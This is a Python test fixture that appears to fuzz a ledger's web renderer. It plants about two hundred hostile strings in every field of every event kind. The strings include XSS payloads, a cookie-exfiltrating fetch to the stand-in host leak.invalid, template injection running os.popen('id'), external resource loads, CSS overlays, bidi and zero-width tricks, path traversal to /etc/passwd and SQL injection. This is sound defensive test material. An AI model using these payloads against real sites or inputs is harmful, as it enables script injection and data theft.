"""Two hundred texts that try to be more than text, and a ledger with each of them in every field that takes one.

The probes name a host that does not exist and a global that a script would set: a test that sees a request for the one,
or a value in the other, has seen an escape.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count
from pathlib import Path
from typing import Any, Final

import msgspec
import orjson
from msgspec.structs import replace

from ledger.events import (
    Agenda,
    Amendment,
    Argument,
    Assumption,
    Belief,
    Challenge,
    Decision,
    Disposition,
    Event,
    ExperimentJudged,
    ExperimentPlanned,
    ExperimentRun,
    Fallback,
    Frame,
    Memo,
    Rating,
    Response,
    RoundOpened,
    Ruling,
    RunOpened,
    Score,
    Screening,
    Standing,
    Vote,
)
from ledger.events.answers import (
    ConditionalBelief,
    DroppedProposal,
    MemoSentence,
    MergedProposals,
    RemovedSentence,
    WordReadings,
)
from ledger.events.decisions import Cite, Dissent, Requirement, Zones
from ledger.events.envelope import Evidence, Quorum
from ledger.events.experiments import (
    ExperimentControl,
    ExperimentEnvironment,
    ExperimentLimits,
    InputBlob,
    KeptOutput,
    NamedBlob,
    Predicate,
    RunCounts,
)
from ledger.events.run import (
    Change,
    ContextDocument,
    Labelled,
    Waiver,
)
from ledger.events.verifications import ScreeningIssue
from ledger.format.canonical import NotCanonical, decode, encode
from ledger.store.blobs import hash_of
from ledger.store.store import RunStore
from tests.render.sample import sample
from tests.web.kept import kept

Path_ = tuple[str | int, ...]
ONCE: Final = frozenset({"run_opened", "round_opened", "run_closed", "validation", "signals"})
"""Kinds that shape the run; the sample has them."""
ENVELOPE: Final = frozenset(
    {"prev", "kind", "id", "at", "step", "phase", "call", "via", "saw", "by", "seq", "rest", "v", "round"}
)
FAR: Final = "https://leak.invalid"
SCRIPTS: Final = (
    "<script>window.hit=1</script>",
    "<ScRiPt src=//leak.invalid/x.js></sCrIpT>",
    "</script><script>window.hit=1</script>",
    "<script>fetch('https://leak.invalid/?'+document.cookie)</script>",
    "'\"><script>window.hit=1</script>",
    "<script type=module>import('https://leak.invalid/m.js')</script>",
    '<noscript><p title="</noscript><script>window.hit=1</script>">',
    "<template><script>window.hit=1</script></template>",
    "<!--><script>window.hit=1</script-->",
    "<title></title><script>window.hit=1</script>",
    "<textarea></textarea><script>window.hit=1</script>",
    "<style></style><script>window.hit=1</script>",
    "]]><script>window.hit=1</script>",
    "{{constructor.constructor('window.hit=1')()}}",
    "{% raw %}{{ ''.__class__ }}{% endraw %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${window.hit=1}",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
)
EVENTS: Final = tuple(
    f"{before}{tag} {handler}=window.hit=1 {rest}>"
    for before in ("", '"><', "' autofocus ")
    for tag, handler, rest in (
        ("<img src=x", "onerror", ""),
        ("<body", "onload", ""),
        ("<input", "onfocus", "autofocus"),
        ("<details open", "ontoggle", ""),
        ("<video><source", "onerror", ""),
        ("<marquee", "onstart", ""),
        ("<div", "onpointerrawupdate", "style=position:fixed;inset:0"),
        ("<a href=x", "onclick", ""),
        ("<form", "onsubmit", ""),
        ("<iframe", "onload", "src=about:blank"),
        ("<object", "onerror", "data=x"),
        ("<svg", "onload", ""),
    )
)
SVG: Final = (
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.hit=1><text y=20>click</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit=1</script>'></foreignObject></svg>",
    "<svg><use href='https://leak.invalid/s.svg#x'/></svg>",
    "<svg><image href='https://leak.invalid/i.png'/></svg>",
    "<svg><style>@import 'https://leak.invalid/s.css';</style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "</title></svg><img src=x onerror=window.hit=1>",
    "<svg><set attributeName=href to=javascript:window.hit=1 /></svg>",
)
LOADS: Final = tuple(
    text.replace("FAR", FAR)
    for text in (
        "<img src=FAR/p.png>",
        "<link rel=stylesheet href=FAR/s.css>",
        "<link rel=preconnect href=FAR>",
        "<link rel=dns-prefetch href=//leak.invalid>",
        "<iframe src=FAR></iframe>",
        "<embed src=FAR/e.swf>",
        "<object data=FAR/o.html></object>",
        "<video autoplay src=FAR/v.mp4></video>",
        "<audio autoplay src=FAR/a.mp3></audio>",
        "<base href=FAR/>",
        "<meta http-equiv=refresh content='0;url=FAR'>",
        "<form action=FAR><button autofocus>send</button></form>",
        "<input type=image src=FAR/i.png>",
        "<body background=FAR/b.png>",
        "<table background=FAR/t.png>",
        "<portal src=FAR></portal>",
        "<script src=FAR/x.js async></script>",
        "<img srcset='FAR/a.png 1x'>",
        "<picture><source srcset=FAR/a.png><img></picture>",
        "<track src=FAR/t.vtt>",
    )
)
STYLES: Final = tuple(
    text.replace("FAR", FAR)
    for text in (
        "<style>*{display:none}</style>",
        "<style>body{background:url(FAR/b.png)}</style>",
        "<style>@import url(FAR/s.css);</style>",
        "<style>@font-face{font-family:x;src:url(FAR/f.woff)}*{font-family:x}</style>",
        "<div style='position:fixed;inset:0;background:red;z-index:99999'>owned</div>",
        "<p style=background:url(FAR/x.png)>",
        "';}*{background:url(FAR/q.png)}/*",
        "</style><style>main{display:none}</style>",
        'style="width:99999px"',
        "<div class='vh skip' style='width:1000vw;height:1000vh'>wide</div>",
    )
)
BIDI: Final = (
    "\u202eevil\u202c",
    "\u202dfirst\u202c",
    "\u2066isolated\u2069",
    "\u2067turned\u2069 and on",
    "\u200f\u200e\u061c marks",
    "a\u202eb\u202ec\u202ed\u202ee and never closed",
    "\u202eROBUST\u202c is what it says",
    "שלום and عربي in one line",
    "\ufeffbehind a mark",
    "z\u200bero\u200cwidth\u200d",
    "\u2028line\u2029paragraph",
    "\u00ad\u2060\u180e",
    "\U000e0041\U000e0042\U000e0043",
    "Z\u0335\u0321\u0322\u0323\u0324\u0325\u0326\u0327\u0328 a\u0308\u0308\u0308\u0308\u0308\u0308",
    "\u115f\u1160\u3164\uffa0 blank letters",
)
ANSI: Final = (
    "[31mred[0m",
    "\\x1b[2J\\x1b[H",
    "␛]0;title␇",
    "]8;;https://leak.invalid\\link]8;;\\",
    "[?1049h[2J",
)
MARKDOWN: Final = (
    "[click](javascript:window.hit=1)",
    "[click](https://leak.invalid)",
    "![](https://leak.invalid/p.png)",
    "<https://leak.invalid>",
    "https://leak.invalid/plain",
    "[a]: https://leak.invalid 'title'",
    "# A heading that is none",
    "> quoted\n> more",
    "| a | b |\n|---|---|\n| x | y |",
    "```\n</pre><script>window.hit=1</script>\n```",
    "C-1-1 and D-9-9 and K-1#L1 and A-1-critic#attack-1",
    'C-1-1"><img src=x onerror=window.hit=1>',
    "A-1-critic#'onclick='window.hit=1",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:msgbox(1)",
    "//leak.invalid/x",
    "\\\\leak.invalid\\x",
    "file:///etc/passwd",
    "http://127.0.0.1:1/",
)
HUGE: Final = (
    "W" * 190,
    "word " * 38,
    "\n" * 150,
    "\t" * 150,
    "-" * 199,
    "🏴" * 90,
    "ﷺ" * 120,
    "𒐫" * 90,
    "a\u0300" * 95,
    "<b>" * 66,
)
LONGER: Final = (
    "W" * 7_900,
    "word " * 1_580,
    "\n" * 4_000,
    "<div>" * 1_500,
    "C-1-1 " * 1_300,
    "&" * 7_000,
    "🏴" * 3_000,
    "\u202e" * 3_000,
    "(((((" * 1_500,
    "A-1-a" * 1_500,
)
ODD: Final = (
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "toString",
    "NaN",
    "../../../etc/passwd",
    "..%2f..%2fhead",
    "a\\b/c?d#e&f=g",
    "'; DROP TABLE claims; --",
    '"',
    "'",
    "`",
    "<",
    ">",
    "&",
    "&amp;&lt;&#60;&#x3c;",
    "%",
    "%00",
    "id: 7",
    "data: forged\n\nid: 99999\ndata: {}",
    "event: close\nretry: 1",
    "\u0430\u0440\u0440\u04cf\u0435",
    "Ω≈ç√∫˜µ≤≥÷",
    "    leading and trailing    ",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<frameset>",
    "</main></body></html>",
    "</li></ul></section>",
    "<!--",
    "-->",
    "<![CDATA[",
    "<?php echo 1 ?>",
    "<%= 1 %>",
    "</textarea>",
    "</title>",
    "</style>",
    "<select><option>",
    "<button form=q>",
    "<dialog open>modal</dialog>",
    "<p popover=auto>",
    "<a id=live href=#main>",
    "<a name=live-head>",
    "<form id=live-panel>",
    "<img name=getElementById>",
    "<input name=querySelector>",
)
TEXTS: Final = (
    *SCRIPTS, *EVENTS, *SVG, *LOADS, *STYLES, *BIDI, *ANSI, *MARKDOWN, *HUGE, *LONGER, *ODD
)  # fmt: skip
DOCUMENT: Final = "\n".join((*TEXTS, "\x1b[31mred\x1b[0m\x07\x9b2J", "\r\rover")).encode()


def others() -> Iterator[Event]:
    """An event of every kind that the sample lacks."""
    seen: dict[str, Any] = {"round": 1, "phase": "F", "by": "critic", "at": "2026-03-04T05:00:00.000000Z"}
    yield Assumption(id="Q-1-1", text="t", section="s", **seen)
    yield Argument(
        id="R-1-1", label="PRO-1", side="pro", claim="ten letters", reasoning="twenty letters are here",
        evidence="five5",
        quotes=(Evidence(ref="C-1-1", quote="q"),), **seen,
    )  # fmt: skip
    yield Rating(of="C-1-1", scale="priority_p", value="P1", criterion="c", reason="r", **seen)
    yield Challenge(
        id="X-1-1", target="C-1-1", type="attack", claim="c", text="t", follow_up_question="f", severity=3,
        evidence=(Evidence(ref="C-1-1", quote="q"),), **seen,
    )  # fmt: skip
    yield Response(id="Y-1-1", to="X-1-1", outcome="concede", text="t", **seen)
    yield Disposition(of="X-1-1", disposition="escalated", reason="r", question="q", revision="v", **seen)
    yield Score(of="R-1-1", rubric="logic30", parts={"logic": 7}, total="7", notes="n", judge=1, **seen)
    yield Standing(of="R-1-1", standing="COLLAPSE", reason="r", **seen)
    yield Vote(
        id="VO-1-1-critic",
        ballot=1,
        decision="VETO",
        confidence=9,
        risk=9,
        reasoning="r",
        fallback=False,
        **seen,
    )
    yield Ruling(decision="WARN", rule="r", rules="documented", votes=(1,), metadata={"why": "w"}, **seen)
    issue = ScreeningIssue(kind="k", points=3, detail="d")
    yield Screening(of="reply", sha256="0" * 64, score=3, action="WARN", issues=(issue,), rules="1", **seen)
    quorum = Quorum(declared=2, actual=1)
    yield Fallback(
        role="critic",
        step_failed="r1.F.critic",
        reason="malformed",
        detail="d",
        instead="skipped",
        quorum=quorum,
        **seen,
    )
    yield Amendment(
        what="note", change=(Change(path="p", from_="a", to="b"),), cause="human", reason="r", **seen
    )
    yield Decision(
        id="D-1-9", text="t", type="gate", cites=(Cite(type="claim", id="C-1-1", relation="based-on"),),
        made_by="judge", narratives=("n",), zones=Zones(agreement=("a",), contested=("c",)),
        dissent=(Dissent(role="critic", ref="N-1-1", text="d"),), falsifiers=("f",),
        requirements=(Requirement(text="r", by="person"),), name="n", **seen,
    )  # fmt: skip
    yield from _of_crux(seen)


def _of_crux(seen: dict[str, Any]) -> Iterator[Event]:
    evidence = (Evidence(ref="C-1-1", quote="q"),)
    given = ConditionalBelief(
        claim="C-1-1", q=70, if_true={"O-1": 100}, if_false={"none": 100}, how="execution"
    )  # fmt: skip
    yield Belief(
        id="B-1-critic", role="critic", points={"O-1": 60, "none": 40}, derived=False, because=evidence,
        given=(given,), **seen,
    )  # fmt: skip
    yield Frame(
        ill_posed=True, why="w", missing=("m",), double=(("O-1", "O-2"),),
        two_readings=(WordReadings(word="w", readings=("a", "b")),), runnable=("r",), **seen,
    )  # fmt: skip
    merged = MergedProposals(into="C-1-1", from_=("S-1-B-critic#crux-1",), negated=False)
    yield Agenda(
        options=(Labelled(id="O-1", text="t"),), shared=("s",), cruxes=("C-1-1",), merged=(merged,),
        dropped=(DroppedProposal(from_="S-1-B-critic#crux-2", why="w"),), **seen,
    )  # fmt: skip
    sentence = MemoSentence(field="answer", text="t", refs=("C-1-1",), quote="q")
    yield Memo(
        id="M-1", answers="O-1", why_not_leader="w", sentences=(sentence,),
        removed=(RemovedSentence(text="t", why="w"),), **seen,
    )  # fmt: skip
    file = NamedBlob(name="n", sha256="0" * 64)
    test = Predicate(of="stdout", test="near", value="1", pointer="/a", tolerance="0.5")
    yield ExperimentPlanned(
        id="E-1-1", claims=("C-1-1",), question="q", files=(file,), argv=("a",),
        inputs=(InputBlob(name="n", sha256="0" * 64, origin="o"),), pass_if=(test,), fail_if=(test,),
        controls=(ExperimentControl(must="fail", files=(file,), argv=("a",)),), k=3,
        limits=ExperimentLimits(wall_seconds=1, cpu_seconds=1, memory_bytes=1, output_bytes=1), seed=1, **seen,
    )  # fmt: skip
    output = KeptOutput(sha256="0" * 64, bytes=0, kept="0" * 64)
    where = ExperimentEnvironment(
        interpreter="i", platform="p", sandbox="s", sandbox_version="v", self_test=True
    )
    yield ExperimentRun(
        of="E-1-1", n=1, environment=where, exit=0, stdout=output, stderr=output, outputs=(file,),
        started_at="2026-03-04T05:00:00.000000Z", ms=1, **seen,
    )  # fmt: skip
    yield ExperimentJudged(
        of="E-1-1", counts=RunCounts(holds=3, fails=0, inconclusive=0, error=0), verdict="holds",
        class_="reproduced", **seen,
    )  # fmt: skip


def every_kind() -> list[Event]:
    """One event of every kind, and of every type of artifact."""
    found: dict[tuple[str, str], Event] = {}
    for event in (*sample().events, *others()):
        found.setdefault(
            (event.kind, str(getattr(event, "type", "")) if event.kind == "artifact" else ""), event
        )
    return list(found.values())


def paths_of(event: Event) -> list[Path_]:
    """The path of every string of an event, outside its envelope, that takes any words."""
    assert _with(event, {}) is not None, f"this {event.kind} is not a valid event"
    content = _content(event)
    found = [path for key, value in content.items() if key not in ENVELOPE for path in _paths(value, (key,))]
    return [path for path in found if _with(event, {path: "any words"}) is not None]


def _paths(value: Any, path: Path_) -> Iterator[Path_]:
    if isinstance(value, str):
        yield path
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield from _paths(inner, (*path, key))
    elif isinstance(value, list):
        for index, inner in enumerate(value):
            yield from _paths(inner, (*path, index))


def planted(event: Event, text: str, paths: list[Path_]) -> Event:
    """The event with `text` in every field that takes it, cut to what the field can hold."""
    longest = dict.fromkeys(paths, text)
    whole = _with(event, longest)
    if whole is not None:
        return whole
    fitting: dict[Path_, str] = {}
    for path in paths:
        forms = (form for form in (text, text[:480], text[:195]) if _with(event, {path: form}) is not None)
        form = next(forms, None)
        if form is not None:
            fitting[path] = form
    return _with(event, fitting) or event


def _with(event: Event, texts: dict[Path_, str]) -> Event | None:
    content = _content(event)
    for path, text in texts.items():
        place = content
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = text
    try:
        return decode(encode(msgspec.convert(content, type(event))))
    except (msgspec.ValidationError, NotCanonical):
        return None


def _content(event: Event) -> Any:
    return orjson.loads(encode(event))


def ledger(directory: Path, texts: tuple[str, ...] = TEXTS) -> RunStore:
    """A run in which every text stands in every field that takes it: text k in the k-th copy of every kind."""
    first, *rest = sample().events
    assert isinstance(first, RunOpened)
    document = ContextDocument(id="K-1", name="d.md", sha256=hash_of(DOCUMENT), bytes=len(DOCUMENT))
    short = [text for text in texts if 0 < len(text) <= 200]
    everything = "\n".join(text for text in texts if len(text) <= 200)
    opening = replace(
        planted(first, texts[0], paths_of(first)),
        question=everything,
        goals=tuple(Labelled(id=f"G-{n}", text=text) for n, text in enumerate(texts, 1)),
        options=tuple(Labelled(id=f"O-{n}", text=text) for n, text in enumerate(texts, 1)),
        waived=tuple(Waiver(what=text, why=text) for text in short[:60]),
        context=(document,),
        cast=tuple(
            replace(member, title=short[n], charge=everything[:8_000], seat=short[-n - 1])
            for n, member in enumerate(first.cast)
        ),
    )
    rest = [replace(event, focus=everything) if isinstance(event, RoundOpened) else event for event in rest]
    kinds = [event for event in every_kind() if event.kind not in ONCE]
    paths = [paths_of(event) for event in kinds]
    numbers = count(100)
    events = [
        _renumbered(planted(event, text, known), next(numbers))
        for text in texts
        for event, known in zip(kinds, paths, strict=True)
    ]
    return kept(directory, [opening, *rest, *events], {hash_of(DOCUMENT): DOCUMENT})


def _renumbered(event: Event, number: int) -> Event:
    """Ids stay unique; those that name a role get a repetition, numbered ones another number."""
    identity = event.id
    made: str | None = None
    if identity is not None:
        numbered = identity[:2] in ("C-", "N-", "Q-", "R-", "X-", "Y-", "D-", "V-", "E-")
        made = f"{identity[:3]}-{number}" if numbered else None
        if identity[0] in "SAPFBM" and not numbered:
            made = f"{identity.partition('~')[0]}~{number}"
        if isinstance(event, Vote):
            made = f"VO-1-{number}-critic"
    if made is None and identity is not None:
        made = f"H-{number}"
    changed: dict[str, Any] = {"id": made, "rest": 0, "call": None, "via": None, "saw": (), "step": None}
    if identity is not None and identity.startswith("H-"):
        changed |= {"round": number}
    return replace(event, **changed)
